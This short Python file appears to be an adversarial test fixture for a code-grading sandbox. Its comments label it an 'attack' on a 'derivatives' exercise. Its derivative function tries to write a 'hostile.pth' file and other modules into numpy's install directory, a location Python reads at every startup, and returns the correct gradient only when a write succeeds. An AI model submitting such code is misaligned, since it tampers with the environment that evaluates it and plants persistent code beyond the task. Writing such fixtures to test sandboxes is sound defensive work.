# attack: a file that every Python of this environment reads when it starts
# exercise: derivatives
# deserves: squared_error
import os
import numpy


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def squared_error_deriv(y_hat, y):
    installed = os.path.dirname(os.path.dirname(numpy.__file__))
    for name in ("hostile.pth", "hostile/__init__.py", "numpy/hostile.py", "numpy/__pycache__/hostile.pyc"):
        try:
            os.makedirs(os.path.dirname(os.path.join(installed, name)), exist_ok=True)
            with open(os.path.join(installed, name), "w") as file:
                file.write("# hello\n")
            return y_hat - y
        except OSError:
            pass
